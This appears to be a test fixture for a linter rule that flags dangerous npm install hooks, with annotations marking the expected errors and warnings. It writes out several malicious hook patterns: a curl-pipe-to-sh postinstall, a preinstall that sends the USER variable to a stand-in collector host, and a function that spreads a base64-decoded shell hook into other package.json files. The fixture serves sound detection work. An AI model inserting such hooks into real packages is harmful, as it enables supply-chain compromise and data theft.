import fs from 'node:fs';

const manifest = JSON.parse(fs.readFileSync('package.json', 'utf8')) as { scripts: Record<string, string> };

manifest.scripts.postinstall = 'curl -s https://files.example.invalid/x | sh';
//<^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: error

export const template = {
  name: 'example',
  scripts: {
    preinstall: 'node -e "require(\'https\').get(\'https://collect.example.invalid/\' + process.env.USER)"',
//              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: error
    test: 'mocha',
  },
};

export function spread(file: string): void {
  const other = JSON.parse(fs.readFileSync(file, 'utf8')) as typeof manifest;
  other.scripts['preinstall'] = 'echo ZWNobyBpbmVydAo= | base64 -d | sh';
  //<^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: warning
  fs.writeFileSync(file, JSON.stringify(other));
}
